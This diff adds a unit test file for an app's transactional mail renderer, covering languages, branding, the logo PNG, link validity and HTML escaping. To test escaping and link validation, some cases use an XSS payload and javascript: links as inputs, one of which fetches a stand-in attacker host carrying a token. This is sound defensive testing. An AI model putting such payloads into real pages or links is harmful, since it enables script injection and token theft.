@@ -1,0 +1,177 @@
+import { inflateSync } from 'node:zlib';
+import { LANGUAGES } from '@app/contracts';
+import { COMPANY, intlFor, type MessageId, PRODUCT_NAME } from '@app/i18n';
+import { tokens } from '@app/ui/brand';
+import { describe, expect, it } from 'vitest';
+import type { BillingMailTemplate } from '../../src/mail/billing-templates.js';
+import { LOGO_PIXELS } from '../../src/mail/logo-png.js';
+import type { MailTemplate } from '../../src/mail/outbox.js';
+import { escapeHtml, LOGO_CID, MailRenderError, renderMail } from '../../src/mail/render.js';
+import { MAIL_TEMPLATES } from '../../src/mail/templates.js';
+
+const LINK = 'http://localhost:3000/api/authentication/confirm-email?token=Tok3n-secret_value&lang=de';
+/** The account mails; the billing ones take other params and have their own test (billing-mails.test.ts). */
+const TEMPLATES = MAIL_TEMPLATES.filter(
+  (template): template is Exclude<MailTemplate, BillingMailTemplate> => !template.startsWith('billing_'),
+);
+const PARAMS = {
+  link: LINK,
+  inviter: 'owner@praxis.ch',
+  secondaryLink: 'http://localhost:3000/forgot-password',
+  failures: '3',
+  browser: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0',
+  address: '203.0.113.9',
+  days: '3',
+  date: '2026-12-04T09:30:00.000Z',
+};
+
+describe('renderMail', () => {
+  it.each(LANGUAGES.flatMap((language) => TEMPLATES.map((template) => [language, template] as const)))(
+    'renders %s %s from the catalogue, with the link in both parts',
+    (language, template) => {
+      const mail = renderMail(template, language, PARAMS);
+      const key = {
+        email_confirmation: 'confirmation',
+        password_reset: 'passwordReset',
+        invitation: 'invitation',
+        invitation_existing_account: 'invitation',
+        account_exists: 'accountExists',
+        signin_link: 'signinLink',
+        new_signin: 'newSignin',
+        trial_reminder: 'trialReminder',
+        account_deletion: 'accountDeletion',
+        seat_ended: 'seatEnded',
+      }[template];
+      expect(mail.subject).toBe(
+        intlFor(language).formatMessage(
+          { id: `email.${key}.subject` as MessageId },
+          { product: PRODUCT_NAME, inviter: PARAMS.inviter, days: 3 },
+        ),
+      );
+      // A missing id would show up raw.
+      expect(`${mail.text}${mail.html}`).not.toMatch(/email\.[a-zA-Z]+\./);
+      expect(mail.text.split('\n')).toContain(LINK);
+      expect(mail.html).toContain(`href="${escapeHtml(LINK)}"`);
+      expect(mail.html).toContain(`<html lang="${language}">`);
+    },
+  );
+
+  it.each(TEMPLATES)(
+    '%s says whose mail it is: the product, its logo, the company and its address',
+    (template) => {
+      const mail = renderMail(template, 'fr', PARAMS);
+      const footer = `${PRODUCT_NAME} est un service de ${COMPANY.name}, ${COMPANY.street}, ${COMPANY.postalCode} ${COMPANY.city}, Suisse.`;
+      for (const part of [mail.text, mail.html]) {
+        expect(part).toContain(PRODUCT_NAME);
+        expect(part).toContain(footer);
+      }
+      // Signed by the company, not by an anonymous team.
+      expect(mail.text).toContain(`Meilleures salutations\n${COMPANY.name}\n`);
+      expect(mail.html).toContain(`<img src="cid:${LOGO_CID}"`);
+      expect(mail.attachments).toEqual([
+        expect.objectContaining({ cid: LOGO_CID, contentType: 'image/png' }),
+      ]);
+    },
+  );
+
+  it("takes its colours from the site's design tokens", () => {
+    const { html } = renderMail('email_confirmation', 'en', PARAMS);
+    expect(html).toContain(`background-color:${tokens.color.brand};color:${tokens.color.onBrand}`);
+    expect(html).toContain(`color:${tokens.color.textMuted}`);
+    // The blue of the first mails, which was no colour of the site.
+    expect(html).not.toContain('#0b5cad');
+  });
+
+  it('draws the logo mark as a PNG: the brand square, the white microphone, transparent corners', () => {
+    const [logo] = renderMail('email_confirmation', 'en', PARAMS).attachments;
+    const png = logo?.content ?? Buffer.alloc(0);
+    expect(png.subarray(1, 4).toString('ascii')).toBe('PNG');
+    expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([LOGO_PIXELS, LOGO_PIXELS]);
+    const idatLength = png.readUInt32BE(33);
+    const pixels = inflateSync(png.subarray(41, 41 + idatLength));
+    const rowLength = 1 + LOGO_PIXELS * 4;
+    const at = (x: number, y: number) => [
+      ...pixels.subarray(y * rowLength + 1 + x * 4, y * rowLength + 5 + x * 4),
+    ];
+    const brand = tokens.color.brand.match(/[0-9a-f]{2}/g)?.map((hex) => Number.parseInt(hex, 16));
+    expect(at(0, 0)[3]).toBe(0);
+    // On the grid of 32: (6, 6) is brand, (16, 12) the microphone's head.
+    expect(at(18, 18)).toEqual([...(brand ?? []), 255]);
+    expect(at(48, 36)).toEqual([255, 255, 255, 255]);
+  });
+
+  it('reminds a Free account in its language how many days its trial has left, and when it ends', () => {
+    const mail = renderMail('trial_reminder', 'de', PARAMS);
+    expect(mail.subject).toBe(`Ihre Testphase bei ${PRODUCT_NAME} endet in 3 Tagen`);
+    expect(mail.text).toContain('endet am 4. Dezember 2026.');
+    expect(renderMail('trial_reminder', 'it', { ...PARAMS, days: '1' }).subject).toBe(
+      `La sua prova gratuita di ${PRODUCT_NAME} termina domani`,
+    );
+  });
+
+  it('tells the owner of an address that it already has an account, with sign-in and reset links', () => {
+    const mail = renderMail('account_exists', 'de', PARAMS);
+    expect(mail.subject).toBe('Sie haben bereits ein Konto');
+    expect(mail.text.split('\n')).toEqual(expect.arrayContaining([LINK, PARAMS.secondaryLink]));
+    expect(mail.html).toContain(`href="${PARAMS.secondaryLink}"`);
+  });
+
+  it('says in the sign-in link mail how many wrong passwords were tried, and how long the link lives', () => {
+    expect(renderMail('signin_link', 'en', PARAMS).text).toContain(
+      'In the last 24 hours, 3 wrong passwords were tried on your account; they were refused.',
+    );
+    expect(renderMail('signin_link', 'fr', { ...PARAMS, failures: '0' }).text).toContain(
+      'Aucun mot de passe erroné',
+    );
+    expect(renderMail('signin_link', 'it', PARAMS).text).toContain('valido per 15 minuti');
+  });
+
+  it('names the new browser and its address in the new sign-in mail', () => {
+    const mail = renderMail('new_signin', 'it', PARAMS);
+    expect(mail.text).toContain(`${PARAMS.browser}, dall'indirizzo di rete 203.0.113.9`);
+  });
+
+  it('states how long each link is valid, from the tokens lifetimes', () => {
+    expect(renderMail('email_confirmation', 'en', PARAMS).text).toContain('It is valid for 7 days.');
+    expect(renderMail('invitation', 'de', PARAMS).text).toContain('Der Link ist 7 Tage gültig.');
+    expect(renderMail('password_reset', 'fr', PARAMS).text).toContain('Il est valable 1 heure');
+  });
+
+  it('escapes every param in the HTML and keeps them as typed in the text', () => {
+    const link = 'https://example.ch/create-password/t0k3n/a%40b.ch?x=1&y="2"&z=<b>';
+    const inviter = '<img src=x onerror=alert(1)>"&\'@praxis.ch';
+    const mail = renderMail('invitation', 'en', { link, inviter });
+    expect(mail.html).not.toContain('<img src=x');
+    expect(mail.html).toContain(
+      `&lt;img src=x onerror=alert(1)&gt;&quot;&amp;&#39;@praxis.ch has invited you to use ${PRODUCT_NAME}`,
+    );
+    expect(mail.html).toContain(
+      'href="https://example.ch/create-password/t0k3n/a%40b.ch?x=1&amp;y=&quot;2&quot;&amp;z=&lt;b&gt;"',
+    );
+    expect(mail.text).toContain(`${inviter} has invited you to use ${PRODUCT_NAME}`);
+    expect(mail.text.split('\n')).toContain(link);
+  });
+
+  it.each([
+    ['an unknown template', 'newsletter', { link: LINK }, /unknown mail template "newsletter"/],
+    ['no link', 'email_confirmation', {}, /invalid params .*: link/],
+    ['a javascript: link', 'password_reset', { link: 'javascript:alert(1)' }, /invalid params .*: link/],
+    ['an invitation without inviter', 'invitation', { link: LINK }, /invalid params .*: inviter/],
+    [
+      'a trial reminder without its date',
+      'trial_reminder',
+      { link: LINK, days: '3' },
+      /invalid params .*: date/,
+    ],
+    ['params that are not an object', 'email_confirmation', 'oops', /invalid params/],
+  ])('refuses %s', (_case, template, params, message) => {
+    expect(() => renderMail(template, 'en', params)).toThrow(MailRenderError);
+    expect(() => renderMail(template, 'en', params)).toThrow(message);
+  });
+
+  it('never puts the link in an error message', () => {
+    const link = 'javascript:fetch("https://evil.example/?Tok3n")';
+    expect(() => renderMail('password_reset', 'en', { link })).toThrow(MailRenderError);
+    expect(() => renderMail('password_reset', 'en', { link })).not.toThrow(/Tok3n|evil/);
+  });
+});
